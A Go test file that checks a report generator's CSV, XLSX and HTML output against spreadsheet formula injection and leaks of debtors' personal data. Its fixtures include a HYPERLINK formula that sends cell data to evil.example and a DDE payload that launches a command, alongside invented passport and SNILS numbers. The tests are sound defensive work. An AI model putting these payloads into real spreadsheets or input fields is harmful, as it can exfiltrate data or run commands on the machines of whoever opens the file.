package report_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/gisgw/gisgw/responder/domain"
	"github.com/gisgw/gisgw/responder/report"
	"github.com/gisgw/gisgw/responder/store"
	"github.com/gisgw/gisgw/responder/store/storeopen"
)

// formulas are GIS field values a spreadsheet would evaluate.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Открыть")`,
	"+7(495)123-45-67",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// personal is a GIS error text quoting a debtor, and what must not reach the report.
const personal = "Должник Иванов Иван Иванович, СНИЛС 123-456-789 01, паспорт 4506 123456, документ 4507123456, Петров П.П."

var personalBits = []string{"Иванов", "Иванович", "123-456-789 01", "4506 123456", "4507123456", "Петров"}

// hostileStore holds one sub-request per formula, in the address, the requester and the
// request number, and a failed one whose GIS error quotes a debtor and starts with "=".
func hostileStore(t *testing.T) store.Store {
	t.Helper()
	ctx := t.Context()
	clock := func() time.Time { return time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC) }
	st, err := storeopen.Open(ctx, filepath.Join(t.TempDir(), "gisgw.db"), storeopen.WithAutoMigrate(), storeopen.WithClock(clock))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	var subs []domain.SubRequest
	for i, f := range formulas {
		subs = append(subs, domain.SubRequest{
			GUID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i+1), OrgGUID: "org", RequestGUID: fmt.Sprintf("rq-%d", i),
			RequestNumber: f, RequesterGUID: "soc", RequesterName: f, HouseGUID: "h", AddressType: "Apartment", Address: f,
			PeriodFrom: d(1, 1), PeriodTo: d(2, 28), SentDate: d(3, 2), ResponseDate: d(3, 16), ResponseStatus: "NotSent", State: domain.StateNew,
		})
	}
	failed := "00000000-0000-4000-8000-000000000099"
	subs = append(subs, domain.SubRequest{GUID: failed, OrgGUID: "org", RequestGUID: "rq-f", RequestNumber: "1-1",
		RequesterGUID: "soc", RequesterName: "УСЗН", HouseGUID: "h", AddressType: "Apartment", Address: "г. Тверь",
		PeriodFrom: d(1, 1), PeriodTo: d(2, 28), SentDate: d(3, 2), ResponseDate: d(3, 16), ResponseStatus: "NotSent", State: domain.StateNew})
	if _, err := st.UpsertSubRequests(ctx, subs); err != nil {
		t.Fatal(err)
	}
	if err := st.SaveDecision(ctx, domain.Decision{SubRequestGUID: failed, RuleVersion: "test"}, domain.StateReady); err != nil {
		t.Fatal(err)
	}
	ds, err := st.ClaimReady(ctx, "org", "me", 10, time.Minute)
	if err != nil || len(ds) != 1 {
		t.Fatalf("ClaimReady = %d, %v", len(ds), err)
	}
	m := domain.Message{ID: "m", OrgGUID: "org", Actions: []domain.Action{{TransportGUID: "t", SubRequestGUID: failed, Kind: domain.ActionSend, Decision: ds[0]}}}
	if err := st.CreateMessage(ctx, "me", m, time.Minute); err != nil {
		t.Fatal(err)
	}
	if err := st.FinishMessage(ctx, "m", []domain.Outcome{{TransportGUID: "t", SubRequestGUID: failed, State: domain.StateFailed,
		ErrorCode: "=INT002000", ErrorText: personal}}); err != nil {
		t.Fatal(err)
	}
	return st
}

// evaluated reports a cell a spreadsheet would take for a formula.
func evaluated(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

func TestHostileCSV(t *testing.T) {
	t.Parallel()
	rep := build(t, hostileStore(t), report.Options{Today: d(3, 10)})
	var b bytes.Buffer
	if err := rep.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse back: %v", err)
	}
	if len(recs) != 1+len(formulas)+1 {
		t.Fatalf("CSV has %d records; want a header and %d rows", len(recs), len(formulas)+1)
	}
	checkCells(t, "CSV", recs)
	for _, bit := range personalBits {
		if strings.Contains(b.String(), bit) {
			t.Errorf("CSV carries %q", bit)
		}
	}
}

func TestHostileXLSX(t *testing.T) {
	t.Parallel()
	rep := build(t, hostileStore(t), report.Options{Today: d(3, 10)})
	var b bytes.Buffer
	if err := rep.WriteXLSX(&b); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(report.SheetRows)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(formulas)+1 {
		t.Fatalf("sheet has %d rows; want a header and %d rows", len(rows), len(formulas)+1)
	}
	checkCells(t, "XLSX", rows)
	for i, row := range rows {
		for j := range row {
			ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, err := f.GetCellFormula(report.SheetRows, ref); err != nil || fm != "" {
				t.Errorf("XLSX %s has the formula %q (%v)", ref, fm, err)
			}
		}
	}
	for _, row := range rows {
		for _, cell := range row {
			for _, bit := range personalBits {
				if strings.Contains(cell, bit) {
					t.Errorf("XLSX cell %q carries %q", cell, bit)
				}
			}
		}
	}
}

func TestHostileHTML(t *testing.T) {
	t.Parallel()
	rep := build(t, hostileStore(t), report.Options{Today: d(3, 10)})
	var b bytes.Buffer
	if err := rep.WriteHTML(&b); err != nil {
		t.Fatal(err)
	}
	for _, bit := range personalBits {
		if strings.Contains(b.String(), bit) {
			t.Errorf("HTML carries %q", bit)
		}
	}
	if !strings.Contains(b.String(), "Должник ***") {
		t.Errorf("HTML lacks the masked GIS error")
	}
}

// checkCells asserts that no data cell would be evaluated, that each formula is still there
// behind its quote, and that the masked GIS error is shown.
func checkCells(t *testing.T, what string, rows [][]string) {
	t.Helper()
	seen := map[string]int{}
	masked := false
	for _, row := range rows[1:] {
		for _, cell := range row {
			if evaluated(cell) {
				t.Errorf("%s cell %q would be evaluated", what, cell)
			}
			if rest, ok := strings.CutPrefix(cell, "'"); ok {
				seen[strings.TrimLeft(rest, "\t\r")]++
			}
			masked = masked || cell == "'=INT002000: Должник ***, СНИЛС ***, паспорт ***, документ ***, ***"
		}
	}
	for _, f := range formulas {
		// Address, requester and request number; the address is trimmed and CSV readers
		// drop a lone CR, so the formula is compared without its leading tab or CR.
		if f := strings.TrimLeft(f, "\t\r"); seen[f] < 3 {
			t.Errorf("%s: %q appears %d times behind a quote; want at least 3", what, f, seen[f])
		}
	}
	if !masked {
		t.Errorf("%s lacks the masked GIS error", what)
	}
}
